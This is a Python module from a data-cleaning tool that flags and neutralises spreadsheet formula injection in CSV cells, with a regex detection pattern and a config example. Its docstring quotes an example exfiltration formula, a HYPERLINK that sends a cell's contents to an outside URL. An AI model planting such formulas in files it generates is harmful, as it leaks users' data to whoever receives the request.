"""Flag cells that a spreadsheet would run as a formula when a salesperson opens the cleaned file:
text beginning with `=`, `+`, `-`, `@`, TAB or CR (OWASP "CSV injection", CWE-1236). A formula
such as `=HYPERLINK("https://…?leak="&A1)` can send the sheet's data away or run commands.
Phone numbers (`+33 6 12 34 56 78`) and plain numbers (`-12,5`) are not a risk and pass.

The default action only flags the row; `--neutralise-formulas` (or `neutralise_formulas: true` in
the config) switches the action to `mask`, which writes the cell with a leading apostrophe so the
spreadsheet shows it as text. The quarantine file keeps original values.

Params: none.

Example:
    - id: formula-injection
      family: output-safety
      check: formula_injection
      severity: warning
      action: tag
      legal_basis: "RGPD art. 32 (sécurité); OWASP CSV Injection, CWE-1236"
      message: {fr: "Cellule interprétée comme formule par un tableur", en: "Cell a spreadsheet runs as a formula"}
"""
from __future__ import annotations

import re

import numpy as np
import pyarrow.compute as pc

from fichier_check.checks.base import CheckContext, Hits

TYPE = "formula_injection"
PARAMS: dict = {}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HARMLESS = re.compile(r"^[+\-]?[0-9][0-9 .,()/\-]*$")  # phone numbers and plain numbers


def roles(params: dict) -> list[str]:
    return []


TRIGGER_PATTERN = "^[=+@\t\r-]"


def is_formula(text: str) -> bool:
    return text.startswith(TRIGGERS) and not HARMLESS.match(text)


def check(ctx: CheckContext, params: dict) -> list[Hits]:
    hits = []
    for position in range(len(ctx.columns.header)):
        if not pc.any(pc.match_substring_regex(ctx.arrow(position), TRIGGER_PATTERN)).as_py():
            continue  # most columns: one RE2 pass over the cells, no per-value work
        distinct = ctx.distinct(position)
        codes, uniques = distinct.codes, distinct.values
        starts = pc.match_substring_regex(distinct.arrow, TRIGGER_PATTERN).to_numpy(zero_copy_only=False)
        flagged = np.array([bool(s) and is_formula(str(u)) for u, s in zip(uniques, starts)], dtype=bool)
        if not flagged.any():
            continue
        neutral = np.array(["'" + str(u) for u in uniques], dtype=object)
        hits.append(Hits(column=position, mask=flagged[codes], replacement=neutral[codes]))
    return hits
